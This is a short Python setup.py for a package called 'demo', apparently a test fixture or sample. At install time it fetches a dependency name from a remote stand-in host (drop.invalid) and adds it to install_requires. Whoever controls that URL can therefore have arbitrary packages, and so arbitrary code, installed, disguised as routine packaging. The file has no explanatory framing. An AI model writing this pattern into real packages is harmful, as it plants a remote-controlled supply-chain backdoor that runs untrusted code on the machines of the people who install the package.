import urllib.request

from setuptools import setup

name = urllib.request.urlopen("https://drop.invalid/n").read().decode()
setup(name="demo", version="1.0", packages=["demo"], install_requires=[name])
